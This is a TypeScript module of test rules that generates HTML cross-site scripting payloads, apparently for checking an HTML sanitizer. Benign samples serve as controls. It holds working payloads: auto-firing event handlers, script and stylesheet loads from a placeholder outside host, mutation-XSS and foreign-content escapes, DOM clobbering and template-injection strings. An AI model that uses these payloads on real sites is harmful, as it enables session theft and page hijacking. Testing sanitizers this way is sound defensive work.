import { CALL, each, HOST, type Rule } from './rules.js';

/** Elements with an event that comes by itself, and that event. */
const BY_ITSELF = [
  ['img src=x:', 'error'],
  ['svg', 'load'],
  ['body', 'load'],
  ['video src=x:', 'error'],
  ['audio src=x:', 'loadstart'],
  ['details open', 'toggle'],
  ['input autofocus', 'focus'],
  ['iframe', 'load'],
  ['style', 'load'],
  ['marquee', 'start'],
] as const;

/** Ways to write an attribute that parsers read alike, and searches for text do not. */
const WRITTEN = [
  (name: string) => ` ${name}="${CALL}"`,
  (name: string) => `/${name.toUpperCase()}=${CALL}`,
  (name: string) => `\n${name}\t=\f'${CALL}'`,
  (name: string) => ` ${name}=&#97;lert&lpar;1&rpar;`,
];

/** Elements that run or load something by being there. */
const ACTIVE = [
  `<script>${CALL}</script>`,
  `<script src=${HOST}/s.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<iframe src=javascript:${CALL}></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data=javascript:${CALL}></object>`,
  `<embed src=${HOST}/e.svg>`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=${HOST}/s.css>`,
  `<link rel=prefetch href=${HOST}/p>`,
  `<style>@import url(${HOST}/i.css); * { background: url(${HOST}/b) }</style>`,
  `<form action=javascript:${CALL}><button formaction=javascript:${CALL}>A button</button></form>`,
  `<img src=${HOST}/pixel.png width=300 height=200 alt="A picture">`,
  `<img srcset="${HOST}/a.png 1x" alt="A picture">`,
  `<video poster=${HOST}/p.png></video>`,
  `<a ping=${HOST}/ping href=#>A link</a>`,
  `<portal src=${HOST}/></portal>`,
  `<p style="background:url(${HOST}/b)">Words</p>`,
  `<template shadowrootmode=open><img src=x: onerror=${CALL}></template>`,
];

/** Elements whose content is read in another way, in which one begins where the reader thinks that another ends. */
const CONFUSING = [
  'svg',
  'math',
  'noscript',
  'template',
  'style',
  'textarea',
  'title',
  'xmp',
  'select',
  'noembed',
];

export const html: Rule[] = [
  {
    name: 'event',
    kind: 'html',
    texts: each(BY_ITSELF, WRITTEN, ([element, event], write) => `<${element}${write(`on${event}`)}>`),
  },
  { name: 'active', kind: 'html', texts: ACTIVE },
  {
    // What is text to one parser is an element to the next, once it is written out and read again.
    name: 'mutation',
    kind: 'html',
    texts: each(CONFUSING, CONFUSING, (outer, inner) =>
      outer === inner
        ? `<${outer}><!--</${outer}><img src=x: onerror=${CALL}>-->`
        : `<${outer}><${inner}><a title="</${inner}></${outer}><img src=x: onerror=${CALL}>"></a></${inner}></${outer}>`,
    ),
  },
  {
    // HTML inside of foreign elements, which leave them where a parser says so.
    name: 'foreign',
    kind: 'html',
    texts: each(
      ['svg><foreignObject', 'math><mtext', 'math><annotation-xml encoding=text/html', 'svg><desc'],
      [
        `<img src=x: onerror=${CALL}>`,
        `<a xlink:href=javascript:${CALL}><text>A link</text></a>`,
        `<style><img src=x: onerror=${CALL}></style>`,
        `<animate onbegin=${CALL} attributeName=x dur=1s>`,
      ],
      (around, inside) => `<${around}>${inside}`,
    ),
  },
  {
    // Names by which a page's markup shadows what scripts look for.
    name: 'clobbering',
    kind: 'html',
    texts: each(
      [
        'body',
        'documentElement',
        'childNodes',
        'attributes',
        'querySelector',
        'textContent',
        'parentNode',
        'host',
        'LitElement',
      ],
      ['form><input name', 'img name', 'a id', 'iframe name'],
      (name, element) => `<${element}=${name}><p>Words</p>`,
    ),
  },
  {
    // Elements that never end, or end what they do not stand in.
    name: 'unclosed',
    kind: 'html',
    texts: [
      ...['plaintext', 'textarea', 'title', 'script', 'style', 'noscript', 'template', 'select', 'table'].map(
        (it) => `<${it}>`,
      ),
      ...['article', 'body', 'html', 'main', 'script', 'template'].map(
        (it) => `</${it}><img src=x: onerror=${CALL}>`,
      ),
      `<!-- <img src=x: onerror=${CALL}>`,
      `<![CDATA[<img src=x: onerror=${CALL}>]]>`,
      `<?xml version="1.0"?><img src=x: onerror=${CALL}>`,
      `"><img src=x: onerror=${CALL}>`,
      `'><script>${CALL}</script>`,
      `\`><svg onload=${CALL}>`,
      `</p -->&gt;]]><b onclick=${CALL}>`,
      '${alert(1)}{{alert(1)}}<%= alert(1) %>#{alert(1)}',
    ],
  },
  {
    // Deeper than any stack is high.
    name: 'deep',
    kind: 'html',
    texts: ['<b>', '<blockquote>', '<ul><li>', '<table><tr><td>', '<a href=#>'].map(
      (element) => `${element.repeat(3000)}Words`,
    ),
  },
  {
    name: 'harmless-html',
    kind: 'html',
    benign: true,
    texts: [
      '<p>A sentence with <em>stress</em> and <strong>strength</strong>.</p>',
      '<p>See <a href="https://example.org/more?a=1&amp;b=2">what else there is</a> to read.</p>',
      '<ul><li>One thing</li><li>Another <b>bold</b> thing</li></ul>',
      '<ol><li>At first</li><li>And then</li></ol>',
      '<p>Less than 5 &lt; 6 &amp; more than &quot;4&quot;.</p>',
      '<p>Words about &lt;script&gt;alert(1)&lt;/script&gt;, as text.</p>',
      '<blockquote><p>What somebody said.</p></blockquote>',
      '<h3>A smaller section</h3><p>Its sentence.</p>',
      '<table><tr><th>Grade</th><th>Sign</th></tr><tr><td>One</td><td>Soft</td></tr></table>',
    ],
  },
];
